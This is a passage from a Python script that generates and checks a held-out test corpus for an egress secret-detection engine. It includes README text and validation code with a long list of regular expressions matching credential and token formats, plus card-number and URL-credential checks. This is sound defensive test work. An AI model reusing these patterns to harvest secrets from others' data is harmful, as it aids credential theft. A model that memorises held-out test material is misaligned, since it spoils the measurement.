            o = {k: c[k] for k in KEY_ORDER if k in c}
            f.write(json.dumps(o, ensure_ascii=False, separators=(',', ':')) + '\n')


def sha256_file(p):
    return hashlib.sha256(open(p, 'rb').read()).hexdigest()


def load(path):
    with open(path, encoding='utf-8') as f:
        return [json.loads(l) for l in f.read().split('\n') if l]


def tally(rows, key):
    d = {}
    for r in rows:
        d[r[key]] = d.get(r[key], 0) + 1
    return dict(sorted(d.items()))


def write_readme():
    pos, neg = load(POS_FILE), load(NEG_FILE)
    files = [('positives.jsonl', POS_FILE), ('negatives.jsonl', NEG_FILE), ('generate.py', os.path.abspath(__file__))]
    L = []
    L.append('# Egress secret-detection test corpus — split 11 (HELD OUT)\n')
    L.append('**This corpus is HELD OUT.** It is meant for a single, final measurement of the detection engine. '
             'Never tune rules, thresholds, allowlists or prompts on it, never copy its cases into training or development '
             'corpora, and report results by class / category only (counts and rates), never by quoting individual cases.\n')
    L.append('It was written independently, from public knowledge of credential formats and exfiltration techniques only, '
             'without looking at the engine\'s rules or at any other test corpus. All values are synthetic and random; '
             'none is a live credential. Key material is never written with PEM armour lines.\n')
    L.append('## Files\n')
    L.append('| file | lines | sha256 |\n|---|---:|---|')
    for name, p in files:
        n = sum(1 for _ in open(p, encoding='utf-8'))
        L.append(f'| `{name}` | {n} | `{sha256_file(p)}` |')
    L.append('')
    L.append('## Regenerate\n')
    L.append('```\ncd /work/split11 && nice python3 generate.py           # rebuild + check\ncd /work/split11 && nice python3 generate.py --check   # check only\n```\n')
    L.append(f'Python 3 standard library only. Deterministic: one `random.Random(SEED)` with **SEED = {SEED}** (`0x{SEED:X}`); '
             'gzip members are written with `mtime=0`, so output is byte-identical across runs on the same Python version.\n')
    L.append('## Line format\n')
    L.append('JSON Lines, one case per line:\n')
    L.append('- `id`: `t11-pos-NNNN` / `t11-neg-NNNN`, sequential from 0001 (cases are shuffled within each file).')
    L.append('- `label`: `positive` | `negative`.')
    L.append('- `expect`: for positives the credential/data class, for negatives the benign category (kebab-case).')
    L.append('- `where`: `body` | `url` | `header` | `hostname` — which part of the outgoing HTTP request carries the case.')
    L.append('- `content_type` (optional, bodies only).')
    L.append('- `content_encoding` (optional, bodies only, only together with `base64`): `gzip`, or `deflate` (= zlib-wrapped).')
    L.append('- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64, after content encoding).')
    L.append('- `header` cases are one ASCII `Name: value` line; `url` cases are absolute http(s) ASCII URLs with valid '
             'percent escapes; `hostname` cases are bare LDH host names (labels <= 63, total <= 253).\n')
    L.append('## Split by `where`\n')
    wp, wn = tally(pos, 'where'), tally(neg, 'where')
    L.append('| where | positives | negatives |\n|---|---:|---:|')
    for w in ['body', 'url', 'header', 'hostname']:
        L.append(f'| {w} | {wp.get(w, 0)} | {wn.get(w, 0)} |')
    L.append(f'| **total** | **{len(pos)}** | **{len(neg)}** |\n')
    cp, cn = tally(pos, 'expect'), tally(neg, 'expect')
    L.append(f'## Positive classes ({len(cp)})\n')
    L.append('| class | cases |\n|---|---:|')
    L += [f'| `{k}` | {v} |' for k, v in cp.items()]
    L.append('')
    L.append(f'## Negative categories ({len(cn)})\n')
    L.append('| category | cases |\n|---|---:|')
    L += [f'| `{k}` | {v} |' for k, v in cn.items()]
    L.append('')
    L.append('## Notes for scorers\n')
    L.append('- A positive counts as detected if the request is blocked/flagged; the class is informational (report recall per class).')
    L.append('- A negative counts as a false positive if the request is blocked/flagged (report false-positive rate per category).')
    L.append('- Bodies given as `base64` with `content_encoding` must be sent/decoded with the matching `Content-Encoding`.')
    with open(README, 'w', encoding='utf-8') as f:
        f.write('\n'.join(L) + '\n')


# ----------------------------------------------------------------------------
# checker
# ----------------------------------------------------------------------------
KEBAB = re.compile(r'^[a-z0-9]+(?:-[a-z0-9]+)*$')
HDR_RE = re.compile(r"^[!#$%&'*+.^_`|~0-9A-Za-z-]+: [\x20-\x7e]+$")
URL_CHARS = re.compile(r"^[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]+$")
LABEL = re.compile(r'^(?!-)[A-Za-z0-9-]{1,63}(?<!-)$')
ARMOUR = re.compile(rb'-{5}(?:BEGIN|END)[ A-Z0-9]*-{5}|PRIVATE KEY-{5}')
NEG_FORBID = [r'gh[pousr]_[A-Za-z0-9]{36}', r'github_pat_[A-Za-z0-9_]{50,}', r'glpat-[A-Za-z0-9_-]{20}', r'xox[bpae]-\d',
              r'(?:sk|rk)_live_[A-Za-z0-9]{10,}', r'\b(?:AKIA|ASIA)[A-Z2-7]{16}\b', r'AIza[0-9A-Za-z_-]{35}', r'sk-ant-',
              r'T3BlbkFJ', r'\bhf_[A-Za-z]{34}\b', r'npm_[A-Za-z0-9]{36}', r'pypi-AgE', r'SG\.[\w-]{22}\.[\w-]{43}',
              r'shp(?:at|ca|pa|ss)_[a-f0-9]{32}', r'do[opr]_v1_', r'AGE-SECRET-KEY-1', r'dckr_pat_', r'glsa_', r'gsk_[A-Za-z0-9]{52}',
              r'hv[sb]\.', r'NRAK-', r'sntry[us]_', r'dapi[a-f0-9]{32}', r'xprv', r'ATATT3', r'ATBB[A-Za-z0-9]{28}',
              r'hooks\.slack\.com/services/T', r'discord(?:app)?\.com/api/webhooks/\d', r'\d{8,10}:AA[\w-]{33}',
              r'eyJ[\w-]{5,}\.eyJ[\w-]{5,}\.[\w-]+', r'GOCSPX-', r'ya29\.', r'AccountKey=', r'[&?]sig=', r'whsec_',
              r'SharedAccessSignature', r'Password=[^;\s]{4,}', r'lin_api_', r'PMAK-', r'(?<![A-Za-z0-9+/])EAAA[\w-]{40}', r'sq0(?:atp|csp)-',
              r'\.atlasv1\.', r'SSWS ', r'AKCp', r'cmVmdGtu', r'key-[0-9a-f]{32}', r'openssh-key-v1', r'b3BlbnNzaC1rZXktdjE',
              r'MII[A-Za-z0-9+/]{2}(?:Q|A)IBA', r'MHcCAQEE', r'MC4CAQAwBQYDK2Vw']


def card_iin(d):
    n = len(d)
    return ((d[0] == '4' and n in (13, 16, 19)) or (51 <= int(d[:2]) <= 55 and n == 16) or (2221 <= int(d[:4]) <= 2720 and n == 16)
            or (d[:2] in ('34', '37') and n == 15) or (d[:2] in ('30', '36', '38') and n == 14) or (d[0] == '6' and 16 <= n <= 19)
            or (3528 <= int(d[:4]) <= 3589 and n == 16))


def luhn_hits(s):
    out = []
    for m in re.finditer(r'(?<![\d.])(?:\d{4}[ -]){3}\d{4}(?![\d])|(?<![\d.])\d{4}[ -]\d{6}[ -]\d{5}(?![\d])|(?<![\d.])\d{13,19}(?![\d.])', s):
        d = re.sub(r'\D', '', m.group())
        if card_iin(d) and luhn_ok(d):
            out.append(m.group())
    return out


def url_creds_hits(s):
    bad = []
    for m in re.finditer(r'://([^/\s:@"\'<>]+):([^/\s@"\'<>]+)@', s):
        pw = unquote(m.group(2))
        if not re.search(r'\*|<|\$|\{|PASSWORD|password|xxx|REDACTED', pw):
            bad.append(m.group())
    return bad


def check():
    errs = []
    E = errs.append
    data = {}
    gen_src = open(os.path.abspath(__file__), 'rb').read()
    if ARMOUR.search(gen_src):
        E('generate.py contains PEM armour')
    for path, label, prefix in [(POS_FILE, 'positive', 't11-pos-'), (NEG_FILE, 'negative', 't11-neg-')]:
        if not os.path.exists(path):
            E(f'missing {path}')
            continue
        raw = open(path, 'rb').read()
        if not raw.endswith(b'\n') or b'\r' in raw:
            E(f'{path}: bad line endings')
        try:
            lines = raw.decode('utf-8').split('\n')[:-1]
        except UnicodeDecodeError:
            E(f'{path}: not UTF-8')
            continue
        rows = []
        seen = set()
        for i, line in enumerate(lines, 1):
            where = f'{os.path.basename(path)}:{i}'
            try:
                o = json.loads(line)
            except Exception as ex:
                E(f'{where}: invalid JSON {ex}')
                continue
            if not isinstance(o, dict):
                E(f'{where}: not an object')
                continue
            extra = set(o) - set(KEY_ORDER)
            if extra:
                E(f'{where}: unknown keys {sorted(extra)}')
            if o.get('id') != f'{prefix}{i:04d}':
                E(f'{where}: bad id {o.get("id")}')
            if o.get('label') != label:
                E(f'{where}: bad label')
            if not isinstance(o.get('expect'), str) or not KEBAB.match(o['expect']):
                E(f'{where}: bad expect')
            w = o.get('where')
            if w not in ('body', 'url', 'header', 'hostname'):
                E(f'{where}: bad where')
                continue
            if ('text' in o) == ('base64' in o):
                E(f'{where}: need exactly one of text/base64')
                continue
            if 'content_type' in o and (w != 'body' or not isinstance(o['content_type'], str) or not o['content_type']):
                E(f'{where}: content_type only for bodies')
            ce = o.get('content_encoding')
            if ce is not None and (ce not in ('gzip', 'deflate') or 'base64' not in o or w != 'body'):
                E(f'{where}: bad content_encoding')
            if 'text' in o:
                if not isinstance(o['text'], str) or not o['text']:
                    E(f'{where}: empty text')
                    continue
                b = o['text'].encode('utf-8')
            else:
                if w != 'body':
                    E(f'{where}: base64 only for bodies')
                try:
                    b = base64.b64decode(o['base64'], validate=True)
                    if base64.b64encode(b).decode() != o['base64']:
                        raise ValueError('non-canonical')
                except Exception as ex:
                    E(f'{where}: bad base64 {ex}')
                    continue
                try:
                    if ce == 'gzip':
                        b = gzip.decompress(b)
                    elif ce == 'deflate':
                        b = zlib.decompress(b)
                except Exception as ex:
                    E(f'{where}: cannot decompress {ex}')
                    continue
            t = o.get('text', '')
            if w == 'header':
                if not HDR_RE.match(t) or '\n' in t or '\r' in t:
                    E(f'{where}: bad header line')
            elif w == 'url':
                sp = urlsplit(t) if t.isascii() else None
                if not sp or sp.scheme not in ('http', 'https') or not sp.netloc or not URL_CHARS.match(t):
                    E(f'{where}: bad url')
                elif re.search(r'%(?![0-9A-Fa-f]{2})', t):
                    E(f'{where}: bad percent escape')
                else:
                    host = sp.hostname or ''
                    if not all(LABEL.match(l) for l in host.split('.')) or len(host) > 253:
                        E(f'{where}: bad url host')
            elif w == 'hostname':
                if len(t) > 253 or not t.isascii() or not all(LABEL.match(l) for l in t.split('.')) or '.' not in t:
                    E(f'{where}: bad hostname')
            if ARMOUR.search(b):
                E(f'{where}: PEM armour present')
            for m in re.finditer(rb'[A-Za-z0-9+/]{40,}={0,2}', b):
                s = m.group()
                try:
                    if ARMOUR.search(base64.b64decode(s + b'=' * (-len(s) % 4))):
                        E(f'{where}: PEM armour in nested base64')
                except Exception:
                    pass
            key = (w, b)
            if key in seen:
                E(f'{where}: duplicate payload')
            seen.add(key)
            if label == 'negative':
                s = b.decode('utf-8', 'replace')
                for sv in {s, unquote(s)}:
                    for pat in NEG_FORBID:
                        for m in re.finditer(pat, sv):
                            g = m.group()
                            if g.endswith('EXAMPLE') or len(set(re.sub(r'^[A-Za-z]+[_-]', '', g)[4:])) <= 2:
                                continue
                            E(f'{where}: negative matches secret-like pattern {pat}')
                    if luhn_hits(sv):
                        E(f'{where}: negative contains Luhn-valid card-like number')
                    if url_creds_hits(sv):
                        E(f'{where}: negative contains URL credentials')
            rows.append(o)
        data[label] = rows
    pos, neg = data.get('positive', []), data.get('negative', [])
    cp, cn = tally(pos, 'expect') if pos else {}, tally(neg, 'expect') if neg else {}
    if not 370 <= len(pos) <= 430:
        E(f'positive count {len(pos)} out of range')
    if not 370 <= len(neg) <= 410:
        E(f'negative count {len(neg)} out of range')
    if not 50 <= len(cp) <= 75:
        E(f'{len(cp)} positive classes (want 50-75)')
    if not 28 <= len(cn) <= 42:
        E(f'{len(cn)} negative categories (want ~30-40)')
    for c in CONTEXT_CLASSES:
        if cp.get(c, 0) < 10:
            E(f'context class {c} has {cp.get(c, 0)} < 10 cases')
    for c, n in cp.items():
        if n < 3:
            E(f'class {c} has only {n} cases')
    if set(cp) & set(cn):
        E('class and category names overlap')
    wp = tally(pos, 'where') if pos else {}
    for w in ('body', 'url', 'header', 'hostname'):
        if wp.get(w, 0) < 10:
            E(f'positives: too few {w} cases')
    if not os.path.exists(README):
        E('README.md missing')
    else:
        rd = open(README, encoding='utf-8').read()
        if 'HELD OUT' not in rd or str(SEED) not in rd:
            E('README lacks HELD OUT statement or seed')
        for p in (POS_FILE, NEG_FILE):
            if sha256_file(p) not in rd:
                E(f'README sha256 for {os.path.basename(p)} is stale')
        if ARMOUR.search(rd.encode()):
            E('README contains PEM armour')
    if errs:
        print(f'CHECK FAILED: {len(errs)} problem(s)', file=sys.stderr)
        for e in errs[:200]:
            print('  ' + e, file=sys.stderr)
        sys.exit(1)
    print(f'check ok: {len(pos)} positives / {len(cp)} classes, {len(neg)} negatives / {len(cn)} categories')


def selftest():
    assert keccak256(b'').hex() == 'c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470'
    assert eip55(bytes.fromhex('5aaeb6053f3e94c9b9a09f33669435e7ef1beaed')) == '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'
    assert segwit_addr(0, bytes.fromhex('751e76e8199196d454941c45d1b3a323f1433bd6')) == 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'
    assert iban_ok('GB82WEST12345698765432') and luhn_ok('79927398713')
    assert b58check(b'\x00' + bytes(20)) == '1111111111111111111114oLvT2'


def main():
    if '--check' in sys.argv[1:]:
        check()
        return
    selftest()
    pos = build_positives()
    neg = build_negatives()
    write_jsonl(POS_FILE, pos, 't11-pos-')
    write_jsonl(NEG_FILE, neg, 't11-neg-')
    write_readme()
    check()


if __name__ == '__main__':
    main()
